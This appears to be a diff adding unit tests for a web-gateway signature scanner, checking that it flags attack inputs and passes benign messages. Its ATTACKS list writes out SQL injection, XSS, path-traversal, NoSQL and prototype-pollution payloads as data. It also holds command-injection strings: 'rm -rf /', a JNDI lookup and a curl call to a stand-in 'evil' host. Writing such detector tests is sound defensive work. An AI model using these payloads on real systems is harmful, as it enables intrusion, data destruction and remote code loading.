@@ -1,0 +1,81 @@
+"""edgegate.policy.signatures: folding, anchors, every set's tripwires, and what must not trip them."""
+
+from edgegate.policy.signatures import SETS, Scanner, fold, percent_decode
+from tests.portable import TestCase
+
+ALL = tuple(SETS)
+
+ATTACKS = [
+    ("sqli", b"name=' OR '1'='1"),
+    ("sqli", b"1 UNION   SELECT password FROM users"),
+    ("sqli", b"1 union/**/select 1"),
+    ("sqli", b"1%20UNION%20SELECT%201"),
+    ("sqli", b"x'; DROP TABLE users; --"),
+    ("sqli", b"1 AND SLEEP(5)"),
+    ("xss", b"<ScRiPt>alert(1)</script>"),
+    ("xss", b'<img src=x onerror = "alert(1)">'),
+    ("xss", b"<a href='JavaScript:alert(1)'>"),
+    ("xss", b"%3Cscript%3E"),
+    ("xss", b"%253Cscript%253E"),  # encoded twice
+    ("cmd", b"host=example.com; rm -rf /"),
+    ("cmd", b"${jndi:ldap://evil/a}"),
+    ("cmd", b"$(curl http://evil)"),
+    ("path", b"../../etc/shadow"),
+    ("path", b"..%2F..%2Fetc"),
+    ("path", b"file\x00.png"),
+    ("nosql", b'{"user": {"$ne": null}}'),
+    ("proto", b'{"__proto__": {"admin": true}}'),
+]
+
+BENIGN = [
+    b'{"type":"chat","text":"Let us select a union rep tomorrow"}',
+    b'{"type":"tick","seq":123456,"ok":true,"data":"abcdefghijabcdefghij"}',
+    b'{"price": 12.5, "currency": "EUR", "note": "5% off, 2 < 3 is true"}',
+    b'{"path": "/api/v1/items", "query": "a=1&b=2"}',
+    b"Don't worry, it's fine",
+    b"email me at a@b.example",
+]
+
+
+class FoldTests(TestCase):
+    def test_fold_lowercases_and_collapses_whitespace_and_comments(self):
+        self.assertEqual(fold(b"UNION \t\r\n SELECT/**/X"), b"union select x")
+
+    def test_percent_decode_decodes_valid_escapes_and_keeps_the_rest(self):
+        self.assertEqual(percent_decode(b"a%20b%zz%4"), b"a b%zz%4")
+
+
+class ScannerTests(TestCase):
+    def test_each_attack_is_found_by_its_set(self):
+        for name, text in ATTACKS:
+            with self.subTest(text=text):
+                hit = Scanner((name,)).find(text)
+                self.assertIsInstance(hit, tuple)
+                self.assertEqual(hit[0], name)
+
+    def test_each_attack_is_missed_when_its_set_is_off(self):
+        for name, text in ATTACKS:
+            others = tuple(n for n in ALL if n != name)
+            with self.subTest(text=text):
+                hit = Scanner(others).find(text)
+                # Some attacks trip two sets; none trips a set it is not listed under by accident.
+                self.assertTrue(hit is None or hit[0] != name)
+
+    def test_benign_messages_pass_every_set(self):
+        s = Scanner(ALL)
+        for text in BENIGN:
+            with self.subTest(text=text):
+                self.assertIsNone(s.find(text))
+
+    def test_deny_list_is_case_and_space_insensitive(self):
+        s = Scanner((), ("Secret  Project",))
+        self.assertEqual(s.find(b"about the SECRET\tproject"), ("deny", "Secret  Project"))
+        self.assertIsNone(s.find(b"a secretproject, written as one word"))
+
+    def test_every_pattern_is_compiled_once(self):
+        s = Scanner(ALL + ALL, ("<script",))
+        n = sum(len(v) for v in SETS.values())
+        self.assertTrue(n <= s.count <= n + 8)  # "x=" patterns also compile as "x ="
+
+    def test_an_empty_scanner_finds_nothing(self):
+        self.assertIsNone(Scanner().find(b"<script>"))
